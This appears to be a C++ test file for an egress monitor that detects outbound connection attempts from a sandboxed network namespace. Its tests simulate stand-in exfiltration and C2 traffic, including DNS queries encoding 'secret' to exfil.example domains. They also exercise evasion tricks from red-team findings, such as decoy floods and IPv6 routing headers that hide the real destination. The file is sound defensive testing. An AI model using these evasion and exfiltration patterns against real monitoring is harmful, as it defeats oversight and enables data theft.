#include "agent/registry/egress_monitor.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <catch2/catch.hpp>
#include <cerrno>
#include <cstring>
#include <string>
#include <vector>

#include "common/job_text.h"
#include "common/unique_fd.h"
#include "tests/support/fresh_netns.h"

namespace ovvoc::agent::registry {
namespace {

using Bytes = std::vector<uint8_t>;

void Put16(Bytes& b, size_t at, int v) {
  b[at] = uint8_t(v >> 8);
  b[at + 1] = uint8_t(v);
}

Bytes Transport(int protocol, int port, uint8_t tcp_flags, const Bytes& payload) {
  Bytes t(protocol == IPPROTO_TCP ? 20 : 8, 0);
  if (protocol == IPPROTO_ICMP || protocol == IPPROTO_ICMPV6) {
    t[0] = uint8_t(port);  // the ICMP type
    return t;
  }
  Put16(t, 0, 40000);
  Put16(t, 2, port);
  if (protocol == IPPROTO_TCP) {
    t[12] = 5 << 4;
    t[13] = tcp_flags;
  } else {
    Put16(t, 4, int(8 + payload.size()));
  }
  t.insert(t.end(), payload.begin(), payload.end());
  return t;
}

Bytes Ipv4(const char* destination, int protocol, int port, uint8_t tcp_flags = 0x02,
           const Bytes& payload = {}) {
  Bytes p(20, 0);
  p[0] = 0x45;
  p[8] = 64;
  p[9] = uint8_t(protocol);
  ::inet_pton(AF_INET, "10.0.0.1", p.data() + 12);
  ::inet_pton(AF_INET, destination, p.data() + 16);
  Bytes t = Transport(protocol, port, tcp_flags, payload);
  p.insert(p.end(), t.begin(), t.end());
  Put16(p, 2, int(p.size()));
  return p;
}

// `extensions`: IPv6 extension headers (protocol numbers) to put before the transport header; a
// routing header is a segment routing header whose one segment is `routed_to` (default: the
// destination).
Bytes Ipv6(const char* destination, int protocol, int port, uint8_t tcp_flags = 0x02,
           const std::vector<int>& extensions = {}, const char* routed_to = nullptr) {
  Bytes p(40, 0);
  p[0] = 0x60;
  p[6] = uint8_t(extensions.empty() ? protocol : extensions[0]);
  ::inet_pton(AF_INET6, "::1", p.data() + 8);
  ::inet_pton(AF_INET6, destination, p.data() + 24);
  for (size_t i = 0; i < extensions.size(); ++i) {
    const uint8_t next = uint8_t(i + 1 < extensions.size() ? extensions[i + 1] : protocol);
    Bytes header = {next, 0, 0, 0, 0, 0, 0, 0};  // 8 bytes (a fragment header: offset 0)
    if (extensions[i] == IPPROTO_ROUTING) {
      header = {next, 2, 4, 0, 0, 0, 0, 0};  // (2 + 1) * 8 bytes, type 4, segments left 0
      header.resize(24, 0);
      ::inet_pton(AF_INET6, routed_to ? routed_to : destination, header.data() + 8);
    }
    p.insert(p.end(), header.begin(), header.end());
  }
  Bytes t = Transport(protocol, port, tcp_flags, {});
  p.insert(p.end(), t.begin(), t.end());
  return p;
}

// A DNS query for `name` (A record).
Bytes DnsQuery(const std::string& name) {
  Bytes m = {0x12, 0x34, 0x01, 0x00, 0x00, 0x01, 0, 0, 0, 0, 0, 0};
  size_t start = 0;
  while (start <= name.size()) {
    size_t dot = name.find('.', start);
    if (dot == std::string::npos) dot = name.size();
    m.push_back(uint8_t(dot - start));
    m.insert(m.end(), name.begin() + long(start), name.begin() + long(dot));
    start = dot + 1;
  }
  m.insert(m.end(), {0, 0, 1, 0, 1});
  return m;
}

TEST_CASE("a TCP SYN to another address is an attempt, the rest of the connection is not") {
  std::optional<EgressAttempt> a = ParseEgressPacket(Ipv4("1.1.1.1", IPPROTO_TCP, 443));
  REQUIRE(a);
  CHECK(a->protocol == IPPROTO_TCP);
  CHECK(a->address == "1.1.1.1");
  CHECK(a->port == 443);
  CHECK(a->Describe() == "tcp 1.1.1.1:443");
  CHECK_FALSE(ParseEgressPacket(Ipv4("1.1.1.1", IPPROTO_TCP, 443, 0x12)));  // SYN+ACK
  CHECK_FALSE(ParseEgressPacket(Ipv4("1.1.1.1", IPPROTO_TCP, 443, 0x10)));  // ACK
  CHECK_FALSE(ParseEgressPacket(Ipv4("1.1.1.1", IPPROTO_TCP, 443, 0x04)));  // RST
}

TEST_CASE("the container's own loopback is not an attempt, except for DNS") {
  CHECK_FALSE(ParseEgressPacket(Ipv4("127.0.0.1", IPPROTO_TCP, 3000)));
  CHECK_FALSE(ParseEgressPacket(Ipv4("127.0.0.1", IPPROTO_UDP, 9999)));
  CHECK_FALSE(ParseEgressPacket(Ipv6("::1", IPPROTO_TCP, 3000)));
  std::optional<EgressAttempt> dns =
      ParseEgressPacket(Ipv4("127.0.0.1", IPPROTO_UDP, 53, 0, DnsQuery("evil.example.com")));
  REQUIRE(dns);
  CHECK(dns->dns());
  CHECK(dns->dns_name == "evil.example.com");
  CHECK(dns->Describe() == "DNS query for evil.example.com (udp 127.0.0.1:53)");
  std::optional<EgressAttempt> tcp_dns = ParseEgressPacket(Ipv6("::1", IPPROTO_TCP, 53));
  REQUIRE(tcp_dns);
  CHECK(tcp_dns->Describe() == "DNS query (tcp [::1]:53)");
}

TEST_CASE("IPv6 and UDP attempts are recognised") {
  std::optional<EgressAttempt> v6 = ParseEgressPacket(Ipv6("2606:4700::1111", IPPROTO_TCP, 443));
  REQUIRE(v6);
  CHECK(v6->Describe() == "tcp [2606:4700::1111]:443");
  std::optional<EgressAttempt> udp = ParseEgressPacket(Ipv4("8.8.8.8", IPPROTO_UDP, 123));
  REQUIRE(udp);
  CHECK(udp->Describe() == "udp 8.8.8.8:123");
}

// Regression: UDP-Lite, and IPv6 with an extension header (a routing header is settable
// without privileges), left no finding.
TEST_CASE("every protocol to another address is an attempt, through IPv6 extension headers") {
  std::optional<EgressAttempt> lite = ParseEgressPacket(Ipv4("1.1.1.1", IPPROTO_UDPLITE, 9));
  REQUIRE(lite);
  CHECK(lite->Describe() == "udplite 1.1.1.1:9");
  std::optional<EgressAttempt> sctp = ParseEgressPacket(Ipv4("1.1.1.1", IPPROTO_SCTP, 80));
  REQUIRE(sctp);
  CHECK(sctp->Describe() == "sctp 1.1.1.1:80");
  std::optional<EgressAttempt> other = ParseEgressPacket(Ipv4("1.1.1.1", 253, 0));
  REQUIRE(other);
  CHECK(other->Describe() == "ip protocol 253 1.1.1.1");
  std::optional<EgressAttempt> routed = ParseEgressPacket(
      Ipv6("2001:db8::1", IPPROTO_UDP, 4444, 0,
           {IPPROTO_HOPOPTS, IPPROTO_ROUTING, IPPROTO_DSTOPTS, IPPROTO_FRAGMENT}));
  REQUIRE(routed);
  CHECK(routed->Describe() == "udp [2001:db8::1]:4444");
  std::optional<EgressAttempt> routed_syn =
      ParseEgressPacket(Ipv6("2001:db8::1", IPPROTO_TCP, 443, 0x02, {IPPROTO_ROUTING}));
  REQUIRE(routed_syn);
  CHECK(routed_syn->Describe() == "tcp [2001:db8::1]:443");
  // Regression (red team): an SRv6 header whose first hop is ::1 hid the real destination.
  std::optional<EgressAttempt> srv6 =
      ParseEgressPacket(Ipv6("::1", IPPROTO_UDP, 4444, 0, {IPPROTO_ROUTING}, "2001:db8::dead"));
  REQUIRE(srv6);
  CHECK(srv6->Describe() == "udp [2001:db8::dead]:4444 routed via ::1");
  // Regression (red team, round 3): the other way round, the address it was sent to showed
  // nowhere; and a header longer than the snap length made the monitor report the first hop.
  std::optional<EgressAttempt> to_self =
      ParseEgressPacket(Ipv6("2001:db8::cafe", IPPROTO_UDP, 5555, 0, {IPPROTO_ROUTING}, "::1"));
  REQUIRE(to_self);
  CHECK(to_self->Describe() == "udp [::1]:5555 routed via 2001:db8::cafe");
  Bytes long_route = Ipv6("::1", IPPROTO_UDP, 4444, 0, {IPPROTO_ROUTING}, "2001:db8::bad");
  long_route[41] = 80;  // hdr ext len: a 648-byte header, cut short by the capture
  std::optional<EgressAttempt> unread = ParseEgressPacket(long_route);
  REQUIRE(unread);
  CHECK(unread->route_unread);
  CHECK(unread->Describe() ==
        "udp ::1 behind a routing header too long to read: its final destination is unknown");
  // A DNS query to loopback behind an extension header is still DNS.
  std::optional<EgressAttempt> hidden_dns =
      ParseEgressPacket(Ipv6("::1", IPPROTO_UDP, 53, 0, {IPPROTO_DSTOPTS}));
  REQUIRE(hidden_dns);
  CHECK(hidden_dns->dns());
  // A later fragment has no ports, but it goes somewhere.
  Bytes fragment = Ipv4("1.1.1.1", IPPROTO_UDP, 9);
  Put16(fragment, 6, 0x0010);
  std::optional<EgressAttempt> piece = ParseEgressPacket(fragment);
  REQUIRE(piece);
  CHECK(piece->Describe() == "udp 1.1.1.1");
}

TEST_CASE("what the kernel answers is not an attempt") {
  CHECK_FALSE(ParseEgressPacket(Ipv4("1.1.1.1", IPPROTO_TCP, 443, 0x14)));  // RST+ACK
  CHECK_FALSE(ParseEgressPacket(Ipv4("1.1.1.1", IPPROTO_ICMP, 3)));         // unreachable
  CHECK_FALSE(ParseEgressPacket(Ipv4("1.1.1.1", IPPROTO_ICMP, 0)));         // echo reply
  CHECK_FALSE(ParseEgressPacket(Ipv6("2001:db8::1", IPPROTO_ICMPV6, 1)));   // unreachable
  CHECK(ParseEgressPacket(Ipv4("1.1.1.1", IPPROTO_ICMP, 8)));               // echo request
  CHECK(ParseEgressPacket(Ipv6("2001:db8::1", IPPROTO_ICMPV6, 128)));
  CHECK_FALSE(ParseEgressPacket(Ipv6("::1", IPPROTO_TCP, 53, 0x14)));
}

TEST_CASE("malformed and foreign packets are not attempts") {
  CHECK_FALSE(ParseEgressPacket({}));
  Bytes p = Ipv4("1.1.1.1", IPPROTO_TCP, 443);
  CHECK_FALSE(ParseEgressPacket(absl::MakeConstSpan(p).subspan(0, 30)));  // truncated TCP
  Bytes short_header = p;
  short_header[0] = 0x44;  // an IPv4 header of 16 bytes
  CHECK_FALSE(ParseEgressPacket(short_header));
  Bytes v5 = p;
  v5[0] = 0x55;
  CHECK_FALSE(ParseEgressPacket(v5));
  CHECK_FALSE(
      ParseEgressPacket(absl::MakeConstSpan(Ipv6("2001:db8::1", IPPROTO_TCP, 1)).subspan(0, 39)));
}

TEST_CASE("a DNS name is read with care") {
  Bytes odd = DnsQuery("a b.example");
  std::optional<EgressAttempt> a = ParseEgressPacket(Ipv4("10.0.0.2", IPPROTO_UDP, 53, 0, odd));
  REQUIRE(a);
  CHECK(a->dns_name == "a?b.example");
  Bytes truncated = DnsQuery("example.com");
  truncated.resize(16);
  a = ParseEgressPacket(Ipv4("10.0.0.2", IPPROTO_UDP, 53, 0, truncated));
  REQUIRE(a);
  CHECK(a->dns_name == "exa...");  // the label said 7 bytes; the name is cut, not invented
  Bytes no_question = DnsQuery("example.com");
  no_question[5] = 0;
  a = ParseEgressPacket(Ipv4("10.0.0.2", IPPROTO_UDP, 53, 0, no_question));
  REQUIRE(a);
  CHECK(a->dns_name.empty());
}

// `address`:`port` as a socket address of `family`; its length.
socklen_t MakeAddress(int family, const char* address, int port, sockaddr_storage& storage) {
  storage = {};
  if (family == AF_INET) {
    auto* in = reinterpret_cast<sockaddr_in*>(&storage);
    in->sin_family = AF_INET;
    in->sin_port = htons(uint16_t(port));
    ::inet_pton(AF_INET, address, &in->sin_addr);
    return sizeof(*in);
  }
  auto* in6 = reinterpret_cast<sockaddr_in6*>(&storage);
  in6->sin6_family = AF_INET6;
  in6->sin6_port = htons(uint16_t(port));
  ::inet_pton(AF_INET6, address, &in6->sin6_addr);
  return sizeof(*in6);
}

// Connects to `address`:`port` from the calling thread's namespace; the errno, 0 on success.
int TryConnect(int family, const char* address, int port) {
  UniqueFd fd(::socket(family, SOCK_STREAM | SOCK_CLOEXEC, 0));
  sockaddr_storage storage;
  const socklen_t length = MakeAddress(family, address, port, storage);
  return ::connect(fd.get(), reinterpret_cast<sockaddr*>(&storage), length) == 0 ? 0 : errno;
}

// A fresh namespace with a monitor in it; null (with a warning) where that cannot be made.
struct Watched {
  testing::FreshNetns netns;
  std::unique_ptr<EgressMonitor> monitor;
};

std::unique_ptr<Watched> WatchedNetns() {
  if (::geteuid() != 0) {
    WARN("skipped: creating a network namespace needs root");
    return nullptr;
  }
  auto watched = std::make_unique<Watched>();
  if (!watched->netns.status().ok()) {
    WARN("skipped: " << watched->netns.status().ToString());
    return nullptr;
  }
  absl::StatusOr<std::unique_ptr<EgressMonitor>> monitor =
      EgressMonitor::Start(watched->netns.path());
  REQUIRE(monitor.ok());
  watched->monitor = *std::move(monitor);
  return watched;
}

TEST_CASE("the monitor sees direct connections and DNS queries in a namespace, and only those") {
  std::unique_ptr<Watched> watched = WatchedNetns();
  if (!watched) return;
  const std::string& netns = watched->netns.path();
  EgressMonitor& monitor = *watched->monitor;

  int direct = -1, direct_v6 = -1, local = -1;
  REQUIRE(testing::RunInNetns(netns, [&] {
    direct = TryConnect(AF_INET, "1.1.1.1", 443);
    (void)TryConnect(AF_INET, "1.1.1.1", 443);  // a retry: counted, not repeated
    direct_v6 = TryConnect(AF_INET6, "2606:4700::1111", 443);
    // The container's own server on loopback: not an attempt.
    UniqueFd server(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
    sockaddr_in in{};
    in.sin_family = AF_INET;
    in.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t length = sizeof(in);
    ::bind(server.get(), reinterpret_cast<sockaddr*>(&in), sizeof(in));
    ::listen(server.get(), 4);
    ::getsockname(server.get(), reinterpret_cast<sockaddr*>(&in), &length);
    local = TryConnect(AF_INET, "127.0.0.1", ntohs(in.sin_port));
    // The resolver's default server.
    UniqueFd udp(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
    in.sin_port = htons(53);
    Bytes query = DnsQuery("exfil.example.net");
    ::sendto(udp.get(), query.data(), query.size(), 0, reinterpret_cast<sockaddr*>(&in),
             sizeof(in));
  }));
  CHECK(direct == ECONNREFUSED);  // promptly refused, not unreachable: the attempt is a packet
  CHECK(direct_v6 == ECONNREFUSED);
  CHECK(local == 0);

  EgressMonitor::Report report = monitor.Drain();
  std::vector<std::string> seen;
  for (const EgressMonitor::Observed& o : report.attempts)
    seen.push_back(o.Describe() + " x" + std::to_string(o.count));
  CHECK(seen == std::vector<std::string>{"tcp 1.1.1.1:443 x2", "tcp [2606:4700::1111]:443 x1",
                                         "DNS query for exfil.example.net (udp 127.0.0.1:53) x1"});
  CHECK(report.more_destinations == 0);
  CHECK(report.dropped == 0);
  CHECK(monitor.Drain().attempts.empty());  // drained
}

// Sends one UDP-family datagram to `address`:`port` from the calling thread's namespace.
void SendDatagram(int family, int protocol, const char* address, int port, const Bytes& data) {
  UniqueFd fd(::socket(family, SOCK_DGRAM | SOCK_CLOEXEC, protocol));
  sockaddr_storage storage;
  const socklen_t length = MakeAddress(family, address, port, storage);
  ::sendto(fd.get(), data.data(), data.size(), 0, reinterpret_cast<sockaddr*>(&storage), length);
}

// Regression: after 64 distinct decoys the real exfiltration was only "5 more".
TEST_CASE("decoys cannot push a real attempt out of sight") {
  std::unique_ptr<Watched> watched = WatchedNetns();
  if (!watched) return;
  const std::string& netns = watched->netns.path();
  EgressMonitor& monitor = *watched->monitor;
  REQUIRE(testing::RunInNetns(netns, [&] {
    // Two thousand decoys at one address, every port a new one, over two protocols...
    for (int port = 1; port <= 1000; ++port) (void)TryConnect(AF_INET, "9.9.9.9", port);
    for (int port = 1; port <= 1000; ++port) {
      SendDatagram(AF_INET, IPPROTO_UDPLITE, "9.9.9.9", port, {1, 2, 3});
    }
    // ...then the real ones: a C2 connection, DNS exfiltration, an IPv6 datagram.
    (void)TryConnect(AF_INET, "203.0.113.7", 8443);
    SendDatagram(AF_INET, IPPROTO_UDP, "127.0.0.1", 53, DnsQuery("c2VjcmV0.exfil.example"));
    SendDatagram(AF_INET6, IPPROTO_UDPLITE, "2001:db8::7", 4000, {1});
  }));
  EgressMonitor::Report report = monitor.Drain();
  std::vector<std::string> destinations;
  for (const EgressMonitor::Observed& o : report.attempts) {
    destinations.push_back(o.attempt.destination());
  }
  CHECK(destinations == std::vector<std::string>{"9.9.9.9", "203.0.113.7", "c2VjcmV0.exfil.example",
                                                 "2001:db8::7"});
  REQUIRE(!report.attempts.empty());
  CHECK(report.attempts[0].count == 2000);
  CHECK(report.attempts[0].variants.size() == EgressMonitor::kMaxVariants);
  CHECK(report.attempts[0].Describe().find("and 1991 more") != std::string::npos);
  CHECK(report.more_destinations == 0);
  CHECK(report.dropped == 0);
}

TEST_CASE("past the cap, distinct destinations are counted") {
  std::unique_ptr<Watched> watched = WatchedNetns();
  if (!watched) return;
  const std::string& netns = watched->netns.path();
  EgressMonitor& monitor = *watched->monitor;
  const int distinct = int(EgressMonitor::kMaxDestinations) + 10;
  REQUIRE(testing::RunInNetns(netns, [&] {
    for (int i = 0; i < distinct; ++i) {
      const std::string address = "10.9." + std::to_string(i / 250) + "." + std::to_string(i % 250);
      SendDatagram(AF_INET, IPPROTO_UDP, address.c_str(), 9, {1});
    }
  }));
  EgressMonitor::Report report = monitor.Drain();
  CHECK(report.attempts.size() == EgressMonitor::kMaxDestinations);
  CHECK(report.more_destinations + report.dropped >= 10);
}

// Regression (red team): the flood finding listed the destinations past the first 64 in one
// string that the 4 KiB bound of a result field then cut, real one and all.
TEST_CASE("past the itemised findings, every destination is still named within field bounds") {
  EgressMonitor::Report report;
  for (int i = 0; i < 1200; ++i) {
    EgressAttempt decoy;
    decoy.protocol = IPPROTO_UDP;
    decoy.address = "10." + std::to_string(i / 250) + "." + std::to_string(i % 250) + ".1";
    decoy.port = 9;
    report.attempts.push_back({decoy, 1, {}, 0});
  }
  EgressAttempt real;
  real.protocol = IPPROTO_TCP;
  real.address = "203.0.113.77";
  real.port = 443;
  report.attempts.push_back({real, 1, {}, 0});
  std::vector<ovvoc::v1::SecurityFinding> findings = EgressFindings(report, "install");
  size_t blocked = 0, named_real = 0;
  for (ovvoc::v1::SecurityFinding& finding : findings) {
    if (finding.kind() == "blocked-egress") ++blocked;
    CHECK(finding.detail().size() <= kMaxEgressListBytes + 100);
    MakeInert(finding);  // what every result goes through
    if (finding.detail().find("203.0.113.77") != std::string::npos) ++named_real;
  }
  CHECK(blocked == kMaxEgressFindings);
  CHECK(named_real == 1);
  CHECK(findings[kMaxEgressFindings].kind() == "egress-flood");
  CHECK(findings[kMaxEgressFindings].detail().find("1201 destinations") != std::string::npos);
  // Dropped packets are said: the list may be incomplete.
  report.dropped = 7;
  findings = EgressFindings(report, "test");
  CHECK(findings[kMaxEgressFindings].detail().find("7 packets came faster") != std::string::npos);
  // Few destinations: no flood finding at all.
  report.attempts.resize(3);
  report.dropped = 0;
  CHECK(EgressFindings(report, "test").size() == 3);
}

TEST_CASE("the monitor refuses a path that is not a network namespace") {
  CHECK_FALSE(EgressMonitor::Start("/proc/self/ns/uts").ok());
  CHECK_FALSE(EgressMonitor::Start("/nonexistent").ok());
}

}  // namespace
}  // namespace ovvoc::agent::registry
